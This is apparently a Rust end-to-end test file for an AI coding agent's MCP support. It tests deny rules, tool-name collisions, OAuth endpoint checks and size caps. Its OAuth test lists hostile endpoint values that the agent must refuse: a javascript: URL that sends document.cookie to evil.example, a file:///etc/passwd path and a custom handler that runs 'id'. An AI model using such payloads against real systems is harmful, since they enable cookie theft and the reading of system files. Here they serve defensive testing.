//! MCP rules, names and sizes (issue 21), each attack run for real: two scripted stdio servers named `git` and
//! `github` behind deny rules, servers whose tool names collide once sanitised, an OAuth server whose metadata points
//! the browser at `javascript:` and other places, a scripted model that streams 5 MB of answer, and a server that
//! replies with 17 MB. Rules must name one server exactly, a collision must be an error naming both tools (never a
//! rename), the browser must never be started for anything but https (or loopback http), and oversized answers and
//! replies must end with a message that says so.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tern::agent::approval::{ApprovalGate, CommandRule};
use tern::agent::spawn;
use tern::mcp::McpManager;
use tern::protocol::{ApprovalMode, Event, Op, TurnEnd};
use tern::provider::ProviderKind;
use tern::session::ToolResultStore;

use crate::mcp::harness;

use crate::mcp::oauth_server;

use crate::support::mock_llm::{MockLlm, Reply};
use crate::support::tern::{Scratch, output, tool_results};

/// The scripted server: `node names_server.js LABEL TOOL...`.
fn names_server() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/e2e/mcp/names_server.js")
}

/// A server entry running the scripted server as `label` with `tools`.
fn server(label: &str, tools: &[&str]) -> Value {
    let mut args = vec![json!(names_server()), json!(label)];
    args.extend(tools.iter().map(|t| json!(t)));
    json!({"command": "node", "args": args})
}

async fn finish_turn(events: &mut tokio::sync::mpsc::UnboundedReceiver<Event>) -> Vec<Event> {
    let mut seen = Vec::new();
    loop {
        let event = tokio::time::timeout(Duration::from_secs(60), events.recv())
            .await
            .expect("the turn ended in time")
            .expect("the agent is running");
        if let Event::ApprovalRequest(r) = &event {
            panic!("nothing here asks: {r:?}");
        }
        let done = matches!(event, Event::TurnFinished { .. });
        seen.push(event);
        if done {
            return seen;
        }
    }
}

/// One turn in full-auto with `deny` rules, servers `git` (tool `status`) and `github` (tool `create_issue`), in which
/// the model calls both tools at once; the two results, git's first.
async fn both_calls_under(deny: &[&str]) -> (String, String) {
    let servers = json!({"mcpServers": {
        "git": server("git", &["status"]),
        "github": server("github", &["create_issue"]),
    }});
    let manager = McpManager::start(harness::servers(&servers.to_string()), harness::STARTUP);
    let mock = MockLlm::start(vec![
        Reply::ToolCalls(vec![
            ("mcp_git_status".into(), json!({})),
            ("mcp_github_create_issue".into(), json!({})),
        ]),
        Reply::text("done"),
    ])
    .await;
    let work = tempfile::tempdir().unwrap();
    let store = tempfile::tempdir().unwrap();
    let deny: Vec<CommandRule> = deny.iter().map(|r| r.parse().unwrap()).collect();
    let mut config = crate::support::agent::config_with_gate(
        &crate::support::agent::provider(&mock, ProviderKind::OpenAi),
        work.path(),
        ToolResultStore::new(store.path().join("results")),
        ApprovalGate::new(ApprovalMode::FullAuto, Vec::new(), deny),
    )
    .with_mcp(Some(manager.clone()));
    config.tools_mut().wait_ready().await;
    let mut agent = spawn(config);
    agent.ops.send(Op::UserTurn { text: "go".into() }).unwrap();
    finish_turn(&mut agent.events).await;
    let requests = mock.requests();
    let results = tool_results(&requests[1]);
    manager.shutdown().await;
    assert_eq!(results.len(), 2, "{results:?}");
    (results[0].clone(), results[1].clone())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rule_for_one_server_never_covers_another_whose_name_starts_the_same() {
    for deny in [
        &["mcp__git"][..],
        &["mcp__git__*"],
        &["mcp__git__status"],
        &["mcp_git_*"],
        &["mcp_git_status"],
    ] {
        let (git, github) = both_calls_under(deny).await;
        assert!(git.contains("deny rule"), "{deny:?} blocks git: {git}");
        assert_eq!(github, "github called create_issue", "{deny:?} leaves github alone");
    }
    for deny in [&["mcp__github"][..], &["mcp_github_*"]] {
        let (git, github) = both_calls_under(deny).await;
        assert!(github.contains("deny rule"), "{deny:?} blocks github: {github}");
        assert_eq!(git, "git called status", "{deny:?} leaves git alone");
    }
    // The loose prefix that covered both is refused when the rule is read, with the exact spelling to use instead.
    let err = "mcp_git*".parse::<CommandRule>().unwrap_err().to_string();
    assert!(err.contains("mcp__SERVER"), "{err}");
}

/// `tern <args>` with `servers` as its `--mcp-config`, pointed at `mock` when given.
async fn tern_with_servers(
    scratch: &Scratch,
    servers: &Value,
    mock: Option<&MockLlm>,
    args: &[&str],
) -> (String, String) {
    let config = scratch.home.path().join("servers.json");
    std::fs::write(&config, servers.to_string()).unwrap();
    let mut cmd = scratch.command(mock, &[]);
    cmd.arg("--mcp-config").arg(&config).args(args);
    let out = output(cmd, Duration::from_secs(60)).await;
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn offered(request: &Value) -> Vec<String> {
    request["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["function"]["name"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn colliding_names_are_an_error_naming_both_and_nothing_is_renamed() {
    // Server `a` tool `b_c` and server `a_b` tool `c` are both `mcp_a_b_c`; `x.y` and `x_y` of one server are both
    // `mcp_a_x_y`.
    let servers = json!({"mcpServers": {
        "a": server("a", &["b_c", "x.y", "x_y"]),
        "a_b": server("a_b", &["c", "own"]),
    }});
    let across = "tool `c` is not offered: its name `mcp_a_b_c` collides with tool `b_c` of server `a`";
    let within = "tool `x.y` is not offered: its name `mcp_a_x_y` collides with tool `x_y` of server `a`";

    let scratch = Scratch::new();
    let (listed, _) = tern_with_servers(&scratch, &servers, None, &["mcp", "list"]).await;
    assert!(listed.contains(across) && listed.contains(within), "{listed}");

    let mock = MockLlm::start(vec![
        Reply::ToolCalls(vec![
            ("mcp_a_b_c".into(), json!({})),
            ("mcp_a_b_c_2".into(), json!({})),
            ("mcp_a_x_y".into(), json!({})),
        ]),
        Reply::text("done"),
    ])
    .await;
    let (_, stderr) = tern_with_servers(&scratch, &servers, Some(&mock), &["run", "--mode", "full-auto", "go"]).await;
    assert!(stderr.contains(across) && stderr.contains(within), "{stderr}");
    let requests = mock.requests();
    let tools = offered(&requests[0]);
    for name in ["mcp_a_b_c", "mcp_a_x_y", "mcp_a_b_own"] {
        assert_eq!(tools.iter().filter(|t| *t == name).count(), 1, "{name}: {tools:?}");
    }
    assert!(
        !tools.iter().any(|t| t.ends_with("_2") || t.ends_with("_3")),
        "nothing renamed: {tools:?}"
    );
    // The first keeps its name and its own server answers; the later one is not reachable under any name.
    let results = tool_results(&requests[1]);
    assert_eq!(results[0], "a called b_c");
    assert!(results[1].contains("not found"), "{}", results[1]);
    assert_eq!(results[2], "a called x_y");
}

/// `tern mcp login remote` against the fake authorization server with `field` of its metadata set to `url`, and a
/// `$BROWSER` script that records what it was asked to open: (stdout + stderr, whether the script ran).
async fn login_with_endpoint(field: &'static str, url: &str) -> (String, bool, usize) {
    let fake = oauth_server::FakeOAuth::start(3600);
    fake.set_endpoint(field, url);
    let scratch = Scratch::new();
    let home = scratch.home.path();
    let config = home.join("mcp.json");
    let servers = json!({"mcpServers": {"remote": {"type": "http", "url": fake.mcp_url()}}});
    std::fs::write(&config, servers.to_string()).unwrap();
    let opened = home.join("opened-url");
    let browser = home.join("browser.sh");
    std::fs::write(
        &browser,
        format!("#!/bin/sh\nprintf '%s' \"$1\" > '{}'\n", opened.display()),
    )
    .unwrap();
    std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut cmd = scratch.command(None, &["--mcp-config"]);
    cmd.arg(&config)
        .args(["mcp", "login", "remote", "--timeout", "5"])
        .env("BROWSER", &browser);
    let out = output(cmd, Duration::from_secs(60)).await;
    assert!(!out.status.success(), "the login must fail");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // Give a browser started in the background a moment to show itself.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let registrations = fake.seen(|s| s.registrations.len());
    (text, opened.exists(), registrations)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oauth_never_opens_or_contacts_anything_but_https_or_this_machine() {
    for (field, url, says) in [
        (
            "authorization_endpoint",
            "javascript:fetch('https://evil.example/'+document.cookie)//",
            "`javascript:`",
        ),
        ("authorization_endpoint", "file:///etc/passwd", "`file:`"),
        (
            "authorization_endpoint",
            "x-evil-handler://run?cmd=id",
            "`x-evil-handler:`",
        ),
        (
            "authorization_endpoint",
            "http://auth.example.com/authorize",
            "plain http to another machine",
        ),
        (
            "token_endpoint",
            "http://auth.example.com/token",
            "plain http to another machine",
        ),
        ("registration_endpoint", "ftp://auth.example.com/register", "`ftp:`"),
    ] {
        let (text, browser_ran, registrations) = login_with_endpoint(field, url).await;
        assert!(
            text.contains("refusing to log in") && text.contains(says),
            "{field} = {url}: {text}"
        );
        assert!(!browser_ran, "{field} = {url}: the browser script must never run");
        assert_eq!(
            registrations, 0,
            "{field} = {url}: nothing is sent before the endpoints are checked"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streamed_answer_past_its_cap_ends_the_turn_with_a_clear_error() {
    // 5 MB of answer text in 4 KB deltas, then a proper end that must never be reached.
    let piece = "y".repeat(4096);
    let chunk = format!(
        "data: {}\n\n",
        json!({"choices": [{"index": 0, "delta": {"content": piece}}]})
    );
    let mut body = String::with_capacity(6 * 1024 * 1024);
    for _ in 0..(5 * 1024 * 1024 / 4096) {
        body.push_str(&chunk);
    }
    body.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
    let mock = MockLlm::start(vec![Reply::raw_stream(body)]).await;
    let work = tempfile::tempdir().unwrap();
    let store = tempfile::tempdir().unwrap();
    let config = crate::support::agent::config(
        &crate::support::agent::provider(&mock, ProviderKind::OpenAi),
        work.path(),
        ToolResultStore::new(store.path().join("results")),
        ApprovalMode::AutoEdit,
    );
    let mut agent = spawn(config);
    agent.ops.send(Op::UserTurn { text: "talk".into() }).unwrap();
    let events = finish_turn(&mut agent.events).await;
    let shown: usize = events
        .iter()
        .map(|e| match e {
            Event::AssistantDelta { text } => text.len(),
            _ => 0,
        })
        .sum();
    assert!(shown <= 4 * 1024 * 1024, "nothing past the cap goes out: {shown}");
    assert!(
        shown >= 4 * 1024 * 1024 - 4096,
        "up to the cap it streams as usual: {shown}"
    );
    let message = "the model's answer passed 4 MB; the turn was stopped";
    let ended = events
        .iter()
        .any(|e| matches!(e, Event::TurnFinished { reason: TurnEnd::Error { message: m } } if m.contains(message)));
    assert!(ended, "{:?}", events.last());
    assert_eq!(mock.requests().len(), 1, "the cap is not retried");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_mcp_reply_past_the_cap_says_so_instead_of_timing_out() {
    let mut big = server("big", &["huge", "small"]);
    big["toolTimeout"] = json!(60);
    let s = harness::session(&json!({"mcpServers": {"big": big}}).to_string()).await;
    let started = Instant::now();
    let out = s.call("mcp_big_huge", json!({})).await;
    let took = started.elapsed();
    assert!(out.is_error, "{}", out.text);
    assert!(
        out.text
            .contains("the server's reply to `huge` passed 16 MB (it was 17.0 MB)"),
        "{}",
        out.text
    );
    assert!(
        !out.text.contains("timed out") && !out.text.contains("did not finish"),
        "{}",
        out.text
    );
    assert!(
        took < Duration::from_secs(30),
        "it ended when the reply was dropped, not at the timeout: {took:?}"
    );
    // The connection goes on: the next call is answered.
    assert_eq!(s.ok("mcp_big_small", json!({})).await, "big called small");
    s.manager.shutdown().await;
}
